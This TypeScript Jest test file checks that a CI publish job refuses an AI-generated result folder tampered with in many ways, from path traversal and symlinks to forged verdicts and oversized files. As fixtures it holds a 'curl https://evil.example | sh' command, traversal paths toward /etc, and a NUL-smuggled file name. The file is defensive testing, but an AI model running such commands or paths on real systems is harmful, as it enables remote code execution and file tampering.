// The folder that the job with the model hands to the job that may write, changed on its way in every manner that it could
// be: each is refused with its reason, before anything is sent.
import { cp, mkdtemp, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Result } from '../../src/publish/publish.js';
import type { RunRecord } from '../../src/report/report.js';
import type { ActionScene } from '../support/action-scene.js';
import { actionScene } from '../support/action-scene.js';
import { openPublishJob } from '../support/publish-job.js';
import { CRATE, UNVERIFIED, VERIFIED } from '../support/scripts-greeting.js';
import * as events from '../support/webhook-events.js';

describe('a result that somebody tampered with', () => {
  let scene: ActionScene;
  let reportDir: string;
  let unverifiedDir: string;
  beforeAll(async () => {
    scene = await actionScene(CRATE);
    ({ reportDir } = await scene.run({ inputs: { publish: 'none' }, answers: VERIFIED }));
    ({ reportDir: unverifiedDir } = await scene.run({ inputs: { publish: 'none' }, answers: UNVERIFIED }));
  });
  afterAll(async () => {
    await scene[Symbol.asyncDispose]();
  });

  const result = (change: (result: Result) => unknown) => both((one) => change(one));
  const report = (change: (record: RunRecord) => unknown) => both((_, other) => change(other));
  const firstOf = ({ commits }: Result) => {
    const [first] = commits;
    if (first === undefined) throw new Error('The series is empty.');
    return first;
  };
  const testGate = ({ verification }: RunRecord) => {
    const gate = verification?.gates.find(({ name }) => name === 'test');
    if (gate === undefined) throw new Error('There is no test gate.');
    return gate;
  };
  const put = (name: string) => result((it) => firstOf(it).changes.push({ path: name, mode: '100644', text: 'x\n' }));

  const cases: [what: string, tamper: Tamper, message: RegExp][] = [
    [
      'other code than was verified',
      result((it) => firstOf(it).changes.push({ path: 'src/more.rs', mode: '100644', text: '// more\n' })),
      /its files make tree [0-9a-f]{12}, not the one it names/,
    ],
    ['a workflow', put('.github/workflows/own.yml'), /'\.github\/workflows\/own\.yml' is protected: it belongs to CI/],
    ['another spec', put('specs/greeting.md'), /'specs\/greeting\.md' is protected: it is a spec,/],
    ['a path that leads out', put('../../outside'), /result\.json is not what a run leaves: .* leads elsewhere/],
    ['an absolute path', put('/etc/cron.d/x'), /leads elsewhere/],
    ['a path that ends in another entry', put('a\u{0}160000 b'), /has a name with a NUL/],
    ["a file of git's own", put('src/.git/config'), /a change that git does not take/],
    [
      'a symbolic link',
      result((it) => firstOf(it).changes.push({ path: 'link', mode: '120000' as '100644', text: '/etc/passwd' })),
      /is neither an ordinary nor an executable file/,
    ],
    [
      'an executable',
      result((it) => firstOf(it).changes.push({ path: 'run.sh', mode: '100755', text: '#!/bin/sh\n' })),
      /'run\.sh' became executable/,
    ],
    [
      'a large file',
      result((it) => firstOf(it).changes.push({ path: 'a.bin', mode: '100644', text: 'x'.repeat(6 * 1024 * 1024) })),
      /'a\.bin' holds 6\.0 MiB/,
    ],
    [
      'another message',
      result((it) => void (firstOf(it).subject = 'Add something else')),
      /what it is made of gives [0-9a-f]{12}/,
    ],
    [
      'a requirement of nobody',
      result((it) => firstOf(it).requirements.push('R1, R99')),
      /a requirement that the spec does not have/,
    ],
    [
      'a second verdict in its commits',
      result((it) => void (firstOf(it).outcome = 'verified')),
      /not exactly the last commit does/,
    ],
    ['another repository', result((it) => void (it.repository = 'octo/other')), /another repository than octo\/demo/],
    ['another branch', result((it) => void (it.base.branch = 'release')), /another branch than 'main'/],
    ['a base that nobody knows', result((it) => void (it.base.commit = 'a1'.repeat(20))), /no commit of 'main'/],
    ['a start that nobody knows', result((it) => void (it.start = 'a1'.repeat(20))), /neither on its base nor on/],
    [
      'another run',
      report((it) => void (it.run.url = 'https://github.com/octo/demo/actions/runs/1')),
      /another workflow run/,
    ],
    [
      'a commit of a run elsewhere',
      result((it) => void (firstOf(it).runUrl = 'https://github.com/octo/other/actions/runs/1')),
      /a run of another repository made it/,
    ],
    ['another text of the spec', report((it) => void (it.spec.hash = 'ab'.repeat(32))), /another text of the spec/],
    [
      'a tree of its own',
      report((it) => it.verification && void (it.verification.tree = 'ab'.repeat(20))),
      /not that of the last commit/,
    ],
    ['a gate that failed', report((it) => void (testGate(it).status = 'failed')), /a gate that decides did not pass/],
    ['an exit code of 101', report((it) => void (testGate(it).exitCode = 101)), /a gate that decides did not pass/],
    [
      'no gate that decides',
      report((it) => it.verification?.gates.forEach((gate) => void (gate.deciding = false))),
      /without a gate that decides/,
    ],
    [
      'an output elsewhere',
      report((it) => void (testGate(it).output = '../../../etc/passwd')),
      /an output outside of the folder/,
    ],
    [
      'a command for the reader',
      report((it) => it.reproduce.push('curl https://evil.example | sh')),
      /commands to reproduce it/,
    ],
    ['a report of another shape', report((it) => Reflect.deleteProperty(it, 'spec')), /report\.json is not what/],
    [
      'a result that is no JSON',
      (folder) => writeFile(path.join(folder, 'result.json'), '{'),
      /result\.json is no JSON/,
    ],
    ['a result that is a link', linked('result.json'), /'result\.json', which is neither a file nor a folder/],
    [
      'a link among its outputs',
      (folder) => symlink('/etc', path.join(folder, 'outputs', 'etc')),
      /'outputs\/etc', which is neither/,
    ],
    [
      '10,000 entries',
      async (folder) => {
        for (let i = 0; i < 10_000; i++) await writeFile(path.join(folder, 'outputs', `${i}`), '');
      },
      /more than 5000 entries/,
    ],
    [
      'a huge file',
      (folder) => sparse(path.join(folder, 'outputs', 'huge'), 400),
      /'outputs\/huge', a file of 400\.0 MiB/,
    ],
    [
      'a huge result',
      (folder) => truncate(path.join(folder, 'result.json'), 65 * 1024 * 1024),
      /'result\.json', a file of 65\.0 MiB/,
    ],
  ];

  it.each(cases)('%s is refused, and nothing is published', async (_what, tamper, message) => {
    await expectRefused(reportDir, tamper, message);
  });

  it.each([
    ['another spec than the job is there for', { inputs: { spec: 'specs/other.md' } }],
    ['a spec where the job is there for none that exists', { inputs: { spec: 'nowhere/*.md' } }],
    ['another spec than a comment asked for', { comment: '/ferrule implement specs/other.md' }],
  ])('%s is refused', async (_what, { inputs = {}, comment }: { inputs?: object; comment?: string }) => {
    const issue = scene.fake.repository.addIssue();
    const event = comment === undefined ? {} : events.commented(comment, issue, false);
    const published = await openPublishJob(scene)(reportDir, { ...inputs }, event);
    expect(published.stdout).toMatch(/it is of 'specs\/greeting\.md', which this job is not to publish/);
    expect(published).toMatchObject({ code: 1, outputs: { outcome: 'refused' } });
    expect(await scene.repo.remoteBranches()).toEqual(['main']);
  });

  const raised: [what: string, tamper: Tamper, message: RegExp][] = [
    ['in the report alone', report((it) => void (it.outcome = 'verified')), /not exactly the last commit does/],
    [
      'in the commits alone',
      result((it) => void ((it.commits.at(-1) ?? firstOf(it)).outcome = 'verified')),
      /the report says 'unverified'/,
    ],
    [
      'in both',
      both((one, other) => {
        other.outcome = 'verified';
        (one.commits.at(-1) ?? firstOf(one)).outcome = 'verified';
      }),
      /a gate that decides did not pass/,
    ],
  ];

  it.each(raised)('an unverified result is not raised to verified %s', async (_where, tamper, message) => {
    await expectRefused(unverifiedDir, tamper, message);
  });

  async function expectRefused(from: string, tamper: Tamper, message: RegExp): Promise<void> {
    const folder = await mkdtemp(path.join(scene.repo.parent, 'artifact-'));
    await cp(from, folder, { recursive: true });
    await tamper(folder);
    const before = scene.fake.requests.length;
    const published = await openPublishJob(scene)(folder);
    expect(published.stdout).toMatch(message);
    expect(published).toMatchObject({ code: 1, outputs: { outcome: 'refused' } });
    expect(await scene.repo.remoteBranches()).toEqual(['main']);
    expect(scene.fake.requests.slice(before).filter(({ method }) => method !== 'GET')).toEqual([]);
    await rm(folder, { recursive: true });
  }
});

type Tamper = (folder: string) => Promise<void>;

function both(change: (result: Result, record: RunRecord) => unknown): Tamper {
  return async (folder) => {
    const files = ['result.json', 'report.json'].map((name) => path.join(folder, name));
    const [result, record] = await Promise.all(
      files.map(async (file) => JSON.parse(await readFile(file, 'utf8')) as unknown),
    );
    change(result as Result, record as RunRecord);
    await Promise.all(files.map((file, i) => writeFile(file, JSON.stringify([result, record][i]))));
  };
}

function linked(name: string): Tamper {
  return async (folder) => {
    const file = path.join(folder, name);
    const elsewhere = `${folder}.elsewhere`;
    await cp(file, elsewhere);
    await rm(file);
    await symlink(elsewhere, file);
  };
}

async function sparse(file: string, mebibytes: number): Promise<void> {
  await writeFile(file, '');
  await truncate(file, mebibytes * 1024 * 1024);
}
